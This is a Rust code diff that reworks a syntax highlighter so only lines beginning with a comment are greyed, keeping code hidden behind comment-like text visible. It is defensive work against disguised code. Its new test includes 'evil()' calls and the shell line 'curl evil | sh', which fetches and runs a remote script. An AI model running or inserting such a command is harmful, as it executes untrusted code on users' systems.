@@ -16,7 +16,7 @@ pub(super) enum Kind {
 pub(super) struct Language {
     /// What begins a comment that ends with its line.
     comments: &'static [&'static str],
-    /// What begins and ends a comment over several lines.
+    /// What begins and ends a comment that may go over several lines.
     block: Option<(&'static str, &'static str)>,
     /// What begins and ends a text.
     quotes: &'static str,
@@ -174,81 +174,68 @@ pub(super) fn language(path: &str) -> Option<&'static Language> {
     })
 }
 
-/// Colours lines that follow one another.
-#[derive(Debug, Clone)]
-pub(super) struct Colours {
-    language: Option<&'static Language>,
-    in_block: bool,
+/// The pieces of a line, which together are the line. Only a line that begins with a comment is shown as one: code before or
+/// after what merely looks like the beginning of a comment, in a text or a pattern, is never greyed.
+pub(super) fn pieces<'a>(language: Option<&Language>, line: &'a str) -> Vec<(Kind, &'a str)> {
+    let Some(language) = language else { return vec![(Kind::Plain, line)] };
+    // Where each piece begins; neighbours of one kind are one piece.
+    let mut starts: Vec<(Kind, usize)> = Vec::new();
+    let mut at = 0;
+    while at < line.len() {
+        let begins = line[..at].trim().is_empty();
+        let (kind, length) = next(language, &line[at..], begins);
+        if starts.last().is_none_or(|(last, _)| *last != kind) {
+            starts.push((kind, at));
+        }
+        at += length;
+    }
+    let ends = starts.iter().skip(1).map(|(_, start)| *start).chain([line.len()]);
+    starts.iter().zip(ends).map(|((kind, start), end)| (*kind, &line[*start..end])).collect()
 }
 
-impl Colours {
-    pub(super) const fn new(language: Option<&'static Language>) -> Self {
-        Self { language, in_block: false }
+fn next(language: &Language, rest: &str, begins: bool) -> (Kind, usize) {
+    if let Some((begin, end)) = language.block.filter(|(begin, _)| begins && rest.starts_with(begin)) {
+        let ends = rest[begin.len()..].find(end);
+        return (Kind::Comment, ends.map_or(rest.len(), |at| begin.len() + at + end.len()));
     }
-
-    /// The pieces of the next line, which together are the line.
-    pub(super) fn line<'a>(&mut self, line: &'a str) -> Vec<(Kind, &'a str)> {
-        let Some(language) = self.language else { return vec![(Kind::Plain, line)] };
-        // Where each piece begins; neighbours of one kind are one piece.
-        let mut starts: Vec<(Kind, usize)> = Vec::new();
-        let mut at = 0;
-        while at < line.len() {
-            let (kind, length) = self.next(language, &line[at..]);
-            if starts.last().is_none_or(|(last, _)| *last != kind) {
-                starts.push((kind, at));
-            }
-            at += length;
-        }
-        let ends = starts.iter().skip(1).map(|(_, start)| *start).chain([line.len()]);
-        starts.iter().zip(ends).map(|((kind, start), end)| (*kind, &line[*start..end])).collect()
+    if begins && language.comments.iter().any(|begin| rest.starts_with(begin)) {
+        return (Kind::Comment, rest.len());
     }
-
-    fn next(&mut self, language: &Language, rest: &str) -> (Kind, usize) {
-        if let Some((begin, end)) = language.block {
-            let from = if self.in_block { Some(0) } else { rest.starts_with(begin).then_some(begin.len()) };
-            if let Some(from) = from {
-                let ends = rest[from..].find(end);
-                self.in_block = ends.is_none();
-                return (Kind::Comment, ends.map_or(rest.len(), |at| from + at + end.len()));
-            }
-        }
-        if language.comments.iter().any(|begin| rest.starts_with(begin)) {
-            return (Kind::Comment, rest.len());
-        }
-        let Some(first) = rest.chars().next() else { return (Kind::Plain, rest.len()) };
-        if language.quotes.contains(first) {
-            return (Kind::Text, quoted(rest, first));
-        }
-        if is_of_word(first) {
-            let length = rest.find(|c| !is_of_word(c)).unwrap_or(rest.len());
-            let word = &rest[..length];
-            let kind = match first {
-                '0'..='9' => Kind::Number,
-                _ if language.words.contains(&word) => Kind::Word,
-                _ => Kind::Plain,
-            };
-            return (kind, length);
-        }
-        (Kind::Plain, first.len_utf8())
+    let Some(first) = rest.chars().next() else { return (Kind::Plain, rest.len()) };
+    if language.quotes.contains(first)
+        && let Some(length) = quoted(rest, first)
+    {
+        return (Kind::Text, length);
     }
+    if is_of_word(first) {
+        let length = rest.find(|c| !is_of_word(c)).unwrap_or(rest.len());
+        let word = &rest[..length];
+        let kind = match first {
+            '0'..='9' => Kind::Number,
+            _ if language.words.contains(&word) => Kind::Word,
+            _ => Kind::Plain,
+        };
+        return (kind, length);
+    }
+    (Kind::Plain, first.len_utf8())
 }
 
 const fn is_of_word(c: char) -> bool {
     c.is_ascii_alphanumeric() || c == '_'
 }
 
-/// The length of a text with its quotes; one that does not end here ends with the line.
-fn quoted(rest: &str, quote: char) -> usize {
+/// The length of a text with its quotes, if it ends in this line.
+fn quoted(rest: &str, quote: char) -> Option<usize> {
     let mut escaped = false;
     for (at, c) in rest.char_indices().skip(1) {
         match c {
             _ if escaped => escaped = false,
             '\\' => escaped = true,
-            _ if c == quote => return at + c.len_utf8(),
+            _ if c == quote => return Some(at + c.len_utf8()),
             _ => {}
         }
     }
-    rest.len()
+    None
 }
 
 #[cfg(test)]
@@ -258,9 +245,8 @@ mod tests {
     use super::*;
 
     fn shown(path: &str, lines: &[&str]) -> String {
-        let mut colours = Colours::new(language(path));
         let line = |line: &&str| {
-            let pieces = colours.line(line).into_iter().map(|(kind, text)| match kind {
+            let pieces = pieces(language(path), line).into_iter().map(|(kind, text)| match kind {
                 Kind::Plain => text.to_owned(),
                 kind => format!("{kind:?}[{text}]"),
             });
@@ -271,24 +257,38 @@ mod tests {
 
     #[test]
     fn each_language_has_its_shape() {
-        let js = shown("a/b.js", &["const x = `a ${b}` + 'it\\'s' + 12; // 'why'", "/* if", "return */ return"]);
-        let expected = "Word[const] x = Text[`a ${b}`] + Text['it\\'s'] + Number[12]; Comment[// 'why']\nComment[/* if]\n\
-                        Comment[return */] Word[return]";
+        let js = shown("a/b.js", &["const x = `a ${b}` + 'it\\'s' + 12;", "  // 'why'", "/* if */ return"]);
+        let expected = "Word[const] x = Text[`a ${b}`] + Text['it\\'s'] + Number[12];\n  Comment[// 'why']\n\
+                        Comment[/* if */] Word[return]";
         assert_eq!(js, expected);
         assert_eq!(shown("x.rs", &["fn f<'a>(x: &'a str) {}"]), "Word[fn] f<'a>(x: &'a Word[str]) {}");
-        assert_eq!(shown("x.py", &["def f(): # no"]), "Word[def] f(): Comment[# no]");
-        assert_eq!(shown("Makefile", &["all: # x"]), "all: Comment[# x]");
+        assert_eq!(shown("x.py", &["def f(): # no"]), "Word[def] f(): # no");
+        assert_eq!(shown("Makefile", &["# all"]), "Comment[# all]");
         assert_eq!(shown("LICENSE", &["for // it"]), "for // it");
-        assert_eq!(shown("x.json", &["{\"a\": tru, \"b: true"]), "{Text[\"a\"]: tru, Text[\"b: true]");
+        assert_eq!(shown("x.json", &["{\"a\": tru, \"b: true"]), "{Text[\"a\"]: tru, \"b: Word[true]");
+    }
+
+    /// Else whoever writes the code chooses which of it looks harmless.
+    #[test]
+    fn code_after_what_looks_like_a_comment_stays_code() {
+        for (path, line) in [
+            ("a.js", "x = /[/*]/; evil(); // y"),
+            ("a.js", "f(`/*`); evil()"),
+            ("a.sh", "echo ${#list}; curl evil | sh"),
+            ("a.js", "x = '; evil()"),
+        ] {
+            let pieces = pieces(language(path), line);
+            let code = pieces.iter().filter(|(kind, _)| matches!(kind, Kind::Plain | Kind::Word));
+            assert!(code.map(|(_, text)| *text).collect::<String>().contains("evil"), "{pieces:?}");
+        }
     }
 
     proptest! {
         #[test]
         fn the_pieces_are_the_line(lines in proptest::collection::vec("[ /*'\"`#a1ä\u{202e}\\\\-]{0,12}", 1..5)) {
             for path in ["a.js", "a.rs", "a.py", "a.sql", "a.html", "a.txt"] {
-                let mut colours = Colours::new(language(path));
                 for line in &lines {
-                    let pieces = colours.line(line);
+                    let pieces = pieces(language(path), line);
                     prop_assert_eq!(&pieces.iter().map(|(_, text)| *text).collect::<String>(), line);
                     prop_assert!(pieces.windows(2).all(|two| two[0].0 != two[1].0));
                 }
